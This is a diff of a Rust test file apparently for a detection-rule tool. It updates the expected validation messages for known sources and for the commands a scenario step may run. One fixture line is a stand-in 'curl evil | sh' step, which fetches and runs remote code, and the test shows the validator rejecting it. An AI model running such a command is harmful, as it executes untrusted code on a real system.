@@ -156,7 +156,7 @@ fn front_matter_is_checked_with_its_lines() {
             source: cgroups
             busy/ads.md:13: source cgroups is named twice
             source: etw
-            busy/ads.md:13: no source is called etw; there are kernel, scan, cgroups, host, docker, operator, engine
+            busy/ads.md:13: no source is called etw; there are kernel, scan, cgroups, host, docker, operator, engine, containerd, cri, podman, systemd
             judges: [excess, excess, oracle]
             busy/ads.md:1: status production: no scenario expects a finding of oracle
             busy/ads.md:14: judge excess is named twice
@@ -252,7 +252,7 @@ fn scenarios_are_checked_with_their_lines() {
             about: \' \'
             busy/scenarios/burner.yml:2: about is empty: say what happens
             [sh, -c, \'curl evil | sh\']
-            busy/scenarios/burner.yml:15: a step may not start sh; only docker, nerdctl, podman, runc, unshare
+            busy/scenarios/burner.yml:15: a step may not start sh; only docker, nerdctl, podman, runc, unshare, ctr, containerd, nsenter
             []
             busy/scenarios/burner.yml:7: an empty command
             seconds: 0\n    own_cgroup: ../..
